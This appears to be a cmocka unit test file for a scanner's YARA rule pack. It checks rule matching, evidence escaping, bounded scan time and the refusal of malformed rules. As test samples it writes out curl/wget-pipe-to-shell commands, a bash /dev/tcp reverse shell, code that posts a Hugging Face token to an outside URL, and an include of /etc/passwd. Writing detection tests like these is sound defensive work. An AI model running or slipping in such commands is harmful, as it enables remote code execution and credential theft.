/* SPDX-License-Identifier: Apache-2.0 */
/* Every built-in YARA rule against its own samples, and the pack's answers to bad rules and hostile bytes. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "scanner/rules_blob.h"
#include "scanner/yara_internal.h"

static int setup(void **state)
{
    struct hg_error err = {""};
    struct hg_yara *pack = NULL;
    int rc = hg_yara_new(NULL, &pack, &err);
    if (rc != 0)
        print_error("%s\n", err.text);
    *state = pack;
    return rc;
}

static int teardown(void **state)
{
    hg_yara_free(*state);
    return 0;
}

static const struct hg_finding *scan_for(struct hg_yara *pack, const char *text, const char *id,
                                         struct hg_findings *out)
{
    assert_int_equal(hg_yara_scan(pack, (const uint8_t *)text, strlen(text), out), 0);
    for (size_t i = 0; i < out->count; i++) {
        if (strcmp(out->items[i].rule, id) == 0)
            return &out->items[i];
    }
    return NULL;
}

static void every_rule_matches_its_example_only(void **state)
{
    struct hg_yara *pack = *state;
    const struct hg_rule_info *info;
    unsigned rules = 0, wrong = 0;
    for (size_t i = 0; (info = hg_yara_rule(pack, i)) != NULL; i++) {
        if (strcmp(info->kind, "yara") != 0)
            continue;
        struct hg_findings pos = {0}, neg = {0};
        const struct hg_finding *f = scan_for(pack, info->example, info->id, &pos);
        if (f == NULL)
            print_error("%s: does not match its example\n", info->id);
        else if (f->reach != HG_REACH_TEXT || f->severity != info->severity[0] || f->line == 0 ||
                 f->evidence == NULL || f->cwe[0] == 0)
            print_error("%s: incomplete finding\n", info->id);
        else
            rules++;
        wrong += f == NULL;
        if (scan_for(pack, info->counterexample, info->id, &neg) != NULL) {
            print_error("%s: matches its counterexample\n", info->id);
            wrong++;
        }
        hg_findings_clear(&pos);
        hg_findings_clear(&neg);
    }
    assert_int_equal(wrong, 0);
    assert_true(rules >= 28);
}

static void ids_are_in_order_and_well_formed(void **state)
{
    const struct hg_rule_info *info, *last = NULL;
    for (size_t i = 0; (info = hg_yara_rule(*state, i)) != NULL; last = info, i++) {
        unsigned number;
        char tail;
        assert_int_equal(sscanf(info->id, "HG-YARA-%3u%c", &number, &tail), 1);
        assert_int_equal(strlen(info->id), strlen("HG-YARA-000"));
        assert_true(last == NULL || strcmp(last->id, info->id) < 0);
        assert_int_equal(strncmp(info->reference, "https://", 8), 0);
    }
    assert_non_null(last);
}

static void place_is_that_of_the_first_telling_string(void **state)
{
    struct hg_findings out = {0};
    const char *text = "import os\r\nx = 'os.system('\r\n\r  os.system('curl -s http://a.invalid/i | sh')\n";
    const struct hg_finding *f = scan_for(*state, text, "HG-YARA-005", &out);
    assert_non_null(f);
    assert_int_equal(f->line, 4);
    assert_int_equal(f->column, 14);
    assert_string_equal(f->evidence, "curl -s http://a.invalid/i | sh");
    hg_findings_clear(&out);
}

static void evidence_is_escaped_and_short(void **state)
{
    struct hg_findings out = {0};
    char text[400] = "bash -i >& /dev/tcp/\x1b[31m";
    memset(text + strlen(text), 'a', 60);
    (void)strcat(text, "/1");
    const struct hg_finding *f = scan_for(*state, text, "HG-YARA-002", &out);
    assert_non_null(f);
    assert_null(strchr(f->evidence, '\x1b'));
    assert_non_null(strstr(f->evidence, "\\x1b[31m"));
    assert_true(strlen(f->evidence) <= 120);
    hg_findings_clear(&out);
}

static void empty_and_benign_give_nothing(void **state)
{
    struct hg_findings out = {0};
    assert_int_equal(hg_yara_scan(*state, NULL, 0, &out), 0);
    assert_null(scan_for(*state, "import torch\nclass M(torch.nn.Module):\n    pass\n", "", &out));
    assert_int_equal(out.count, 0);
}

/* Spellings that the one example of a rule does not show. */
static void other_spellings_match(void **state)
{
    static const struct {
        const char *text, *rule;
    } cases[] = {
        {"os.system('curl -s http://a.invalid/x | a1 | b1 | c1 | d1 | sh')\n", "HG-YARA-005"},
        {"os.system('curl -s http://a.invalid/x | a1 | b1 | c1 | d1 | sh')\n", "HG-YARA-006"},
        {"os.system('wget -qO- a.invalid/x || true | sudo bash')\n", "HG-YARA-005"},
        {"t=open(os.path.join(h,'huggingface', \"token\")).read()\nrequests.post(u,data=t)\n", "HG-YARA-025"},
        {"t=open(os.path.join(h,\"huggingface\",'token')).read()\nrequests.post(u,data=t)\n", "HG-YARA-025"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct hg_findings out = {0};
        if (scan_for(*state, cases[i].text, cases[i].rule, &out) == NULL)
            fail_msg("case %zu: not %s", i, cases[i].rule);
        hg_findings_clear(&out);
    }
}

/* Of a megabyte of almost-matches none may cost what would let a repository stall the gate: these are looked
 * at to their end, in a fraction of the scan's own limit. */
static void hostile_bytes_end_in_bounded_time(void **state)
{
    static const struct {
        const char *part, *rule; /* NULL: no finding */
    } cases[] = {
        {"os.system('curl |sh", NULL},
        {"os.system('curl -s x|sh ", "HG-YARA-005"},
    };
    size_t n = 1u << 20;
    char *text = malloc(n + 1);
    assert_non_null(text);
    for (size_t c = 0; c < sizeof cases / sizeof *cases; c++) {
        for (size_t i = 0, length = strlen(cases[c].part); i < n; i++)
            text[i] = cases[c].part[i % length];
        text[n] = '\0';
        struct hg_findings out = {0};
        clock_t start = clock();
        const struct hg_finding *unfinished = scan_for(*state, text, "HG-YARA-000", &out);
        assert_true(clock() - start < CLOCKS_PER_SEC);
        assert_null(unfinished);
        assert_int_equal(out.count, cases[c].rule == NULL ? 0 : 1);
        if (cases[c].rule != NULL)
            assert_string_equal(out.items[0].rule, cases[c].rule);
        hg_findings_clear(&out);
    }
    free(text);
}

/* libyara refuses what another version, or a broken build, has compiled. */
static void refused_bytes_are_replaced_by_the_texts(void **state)
{
    size_t size, rules = 0;
    const void *compiled = hg_rules_compiled(&size);
    char *damaged = malloc(size);
    assert_non_null(damaged);
    memcpy(damaged, compiled, size);
    damaged[0] ^= 1;
    while (hg_yara_rule(*state, rules) != NULL)
        rules++;
    const size_t sizes[] = {size, 3, 0};
    for (size_t i = 0; i < sizeof sizes / sizeof *sizes; i++) {
        struct hg_error err = {""};
        struct hg_yara *pack = NULL;
        assert_int_equal(hg_yara_open(damaged, sizes[i], NULL, &pack, &err), 0);
        for (size_t r = 0; r < rules; r++) {
            assert_non_null(hg_yara_rule(pack, r));
            assert_string_equal(hg_yara_rule(pack, r)->id, hg_yara_rule(*state, r)->id);
        }
        assert_null(hg_yara_rule(pack, rules));
        void *other = pack;
        every_rule_matches_its_example_only(&other);
        hg_yara_free(pack);
    }
    free(damaged);
}

/* The rule file with $ctx_ strings that match everywhere and the others that match nowhere. */
static char *only_surroundings(const struct hg_rules_entry *e)
{
    char *out = NULL;
    size_t size = 0;
    FILE *to = open_memstream(&out, &size);
    assert_non_null(to);
    for (const char *at = e->text, *end = e->text + e->size; at < end;) {
        const char *stop = memchr(at, '\n', (size_t)(end - at));
        size_t length = stop == NULL ? (size_t)(end - at) : (size_t)(stop - at) + 1;
        const char *name = at + strspn(at, " "), *equals = memchr(at, '=', length);
        if (name < at + length && *name == '$' && equals != NULL)
            (void)fprintf(to, "%.*s= %s\n", (int)(equals - name), name,
                          strncmp(name, "$ctx_", 5) == 0 ? "\"xxxx\"" : "\"never-there\"");
        else
            (void)fwrite(at, 1, length, to);
        at += length;
    }
    assert_int_equal(fclose(to), 0);
    return out;
}

static int refuse_match(YR_SCAN_CONTEXT *context, int message, void *data, void *arg)
{
    (void)context;
    if (message != CALLBACK_MSG_RULE_MATCHING)
        return CALLBACK_CONTINUE;
    print_error("%s is true without a string that is not named $ctx_\n", ((YR_RULE *)data)->identifier);
    ++*(int *)arg;
    return CALLBACK_CONTINUE;
}

/* What lets the pack pass over bytes in which only surroundings occur. */
static void no_rule_is_true_of_surroundings_alone(void **state)
{
    static const char *const heads[] = {"x",    "\177ELF", "MZ",       "\x89PNG",
                                        "GIF8", "%PDF",    "\xff\xd8", "PK\3\4"};
    struct hg_rules_entry e;
    size_t cursor = 0;
    int matches = 0;
    (void)state;
    while (hg_rules_blob_next(&cursor, &e) == 1) {
        if (!hg_rules_entry_is(&e, ".yar"))
            continue;
        YR_COMPILER *compiler;
        YR_RULES *rules;
        char bytes[2000], *text = only_surroundings(&e);
        assert_int_equal(yr_compiler_create(&compiler), ERROR_SUCCESS);
        assert_int_equal(yr_compiler_add_string(compiler, text, NULL), 0);
        assert_int_equal(yr_compiler_get_rules(compiler, &rules), ERROR_SUCCESS);
        for (size_t i = 0; i < sizeof heads / sizeof *heads; i++) {
            memset(bytes, 'x', sizeof bytes);
            memcpy(bytes, heads[i], strlen(heads[i]));
            assert_int_equal(
                yr_rules_scan_mem(rules, (const uint8_t *)bytes, sizeof bytes, 0, refuse_match, &matches, 10),
                ERROR_SUCCESS);
        }
        (void)yr_rules_destroy(rules);
        yr_compiler_destroy(compiler);
        free(text);
    }
    assert_int_equal(matches, 0);
}

#define META                                                                                                 \
    "title=\"t\" cwe=\"CWE-1\" confidence=\"low\" description=\"d\" reference=\"r\" remedy=\"m\" "           \
    "example=\"e\" counterexample=\"c\" "

static void bad_extra_rules_are_refused_with_their_place(void **state)
{
    static const struct {
        const char *text, *message;
    } cases[] = {
        {"rule a {\n condition:\n  $x\n}\n", "/x.yar:4: undefined string"},
        {"\nrule a { meta: " META "severity=\"high\" condition: true }\n",
         "/x.yar:2: rule a: meta id is missing"},
        {"rule a { meta: id=\"U-1\" " META "severity=\"huge\" condition: true }\n",
         "/x.yar:1: rule a: meta severity must be"},
        {"rule a { meta: id=\"HG-YARA-001\" " META "severity=\"low\" condition: true }\n",
         "/x.yar:1: rule a: its id belongs to another rule"},
        {"include \"/etc/passwd\"\n", "/x.yar:1: "},
    };
    (void)state;
    char dir[] = "/tmp/hg-yara-XXXXXX", path[64];
    assert_non_null(mkdtemp(dir));
    (void)snprintf(path, sizeof path, "%s/x.yar", dir);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct hg_error err = {""};
        struct hg_yara *pack = NULL;
        FILE *f = fopen(path, "w");
        assert_non_null(f);
        (void)fputs(cases[i].text, f);
        (void)fclose(f);
        assert_int_equal(hg_yara_new(dir, &pack, &err), -EINVAL);
        assert_int_equal(strncmp(err.text, dir, strlen(dir)), 0);
        if (strstr(err.text, cases[i].message) == NULL)
            print_error("case %zu: %s\n", i, err.text);
        assert_non_null(strstr(err.text, cases[i].message));
    }
    FILE *f = fopen(path, "w");
    (void)fputs("rule mine { meta: id=\"U-1\" " META
                "severity=\"low\" strings: $a=\"canary-text\" condition: $a }\n",
                f);
    (void)fclose(f);
    struct hg_yara *pack = NULL;
    struct hg_findings out = {0};
    assert_int_equal(hg_yara_new(dir, &pack, NULL), 0);
    assert_non_null(scan_for(pack, "a canary-text b", "U-1", &out));
    hg_findings_clear(&out);
    hg_yara_free(pack);
    (void)unlink(path);
    (void)rmdir(dir);
    assert_int_equal(hg_yara_new(dir, &pack, NULL), -ENOENT);
}

static void blob_lists_every_rule_file_once(void **state)
{
    (void)state;
    struct hg_rules_entry e;
    size_t cursor = 0, files = 0;
    while (hg_rules_blob_next(&cursor, &e) == 1) {
        assert_true(e.size > 0);
        files += (size_t)hg_rules_entry_is(&e, ".yar");
    }
    assert_int_equal(hg_rules_blob_next(&cursor, &e), 0);
    assert_true(files >= 5);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_rule_matches_its_example_only),
        cmocka_unit_test(ids_are_in_order_and_well_formed),
        cmocka_unit_test(place_is_that_of_the_first_telling_string),
        cmocka_unit_test(evidence_is_escaped_and_short),
        cmocka_unit_test(empty_and_benign_give_nothing),
        cmocka_unit_test(other_spellings_match),
        cmocka_unit_test(hostile_bytes_end_in_bounded_time),
        cmocka_unit_test(refused_bytes_are_replaced_by_the_texts),
        cmocka_unit_test(no_rule_is_true_of_surroundings_alone),
        cmocka_unit_test(bad_extra_rules_are_refused_with_their_place),
        cmocka_unit_test(blob_lists_every_rule_file_once),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
